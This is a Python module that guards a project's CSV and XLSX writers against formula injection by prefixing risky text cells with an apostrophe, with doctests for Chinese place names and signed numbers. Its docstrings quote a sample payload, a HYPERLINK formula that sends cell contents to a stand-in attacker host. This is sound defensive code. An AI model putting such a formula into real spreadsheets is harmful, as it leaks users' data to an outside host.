"""Spreadsheet-safe cell values: no text cell is ever run as a formula (CSV injection).

A 街道, facility or candidate name such as ``=HYPERLINK("http://evil.example/?"&A1,"x")``
comes from an input file and would otherwise be written into ``jiedao.csv``,
``jiedao.xlsx``, ``progress_YYYY-MM.xlsx``, ``sites.csv`` or ``rejects.csv`` as a live
formula. Following OWASP's CSV-injection advice, a text cell that starts with ``=``,
``+``, ``-``, ``@``, a tab or a carriage return gets a leading apostrophe, so Excel,
LibreOffice and openpyxl read it as text. Plain numbers written as text (``"-5"``,
``"+3.5"``) cannot do harm and stay as they are; numbers stay numbers.

Every CSV/XLSX writer of the project passes its text through :func:`neutralise_text` or
:func:`neutralise_frame`.
"""

from __future__ import annotations

import re
from typing import Final, TypeVar

import numpy as np
import pandas as pd

FORMULA_START: Final = re.compile(r"^[=@\t\r]|^[+-](?![\d.]+$)")
"""Text Excel would run as a formula; signed plain numbers such as ``-5`` are safe."""

_T = TypeVar("_T")


def neutralise_text(value: _T) -> _T | str:
    """``value`` with a leading ``'`` when it is text a spreadsheet would run as a formula.

    Parameters
    ----------
    value
        Any cell value; only ``str`` values are changed.

    Returns
    -------
    object
        The same value, or the text prefixed with an apostrophe.

    Examples
    --------
    >>> neutralise_text('=HYPERLINK("http://evil.example","x")')
    '\\'=HYPERLINK("http://evil.example","x")'
    >>> neutralise_text("解放碑街道"), neutralise_text("-5"), neutralise_text(-5)
    ('解放碑街道', '-5', -5)
    >>> neutralise_text("-2+3"), neutralise_text("@SUM(A1)")
    ("'-2+3", "'@SUM(A1)")
    """
    if isinstance(value, str) and FORMULA_START.match(value):
        return "'" + value
    return value


def neutralise_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells and column names are formula-safe.

    Numeric, boolean and missing cells are left untouched (a numeric column keeps its
    dtype); text in object, string and categorical columns goes through
    :func:`neutralise_text`. The input is not modified.

    Examples
    --------
    >>> df = pd.DataFrame({"name": ["=1+1", "渝中"], "slots": [-3, 5]})
    >>> out = neutralise_frame(df)
    >>> out["name"].tolist(), out["slots"].tolist(), df["name"].iloc[0]
    (["'=1+1", '渝中'], [-3, 5], '=1+1')
    """
    out = frame.copy()
    geometry = getattr(out, "_geometry_column_name", None)
    for column in out.columns:
        dtype = out[column].dtype
        if column == geometry:
            continue
        if isinstance(dtype, pd.CategoricalDtype):
            dtype = np.dtype(object)  # the escaped text may not be a category
        elif not (pd.api.types.is_object_dtype(dtype) or pd.api.types.is_string_dtype(dtype)):
            continue  # numbers and booleans stay as they are
        values = [neutralise_text(v) for v in out[column].tolist()]  # None / NA kept as is
        out[column] = pd.Series(values, index=out.index, dtype=dtype)
    out.columns = pd.Index([neutralise_text(c) for c in out.columns])
    return out


__all__ = ["FORMULA_START", "neutralise_frame", "neutralise_text"]
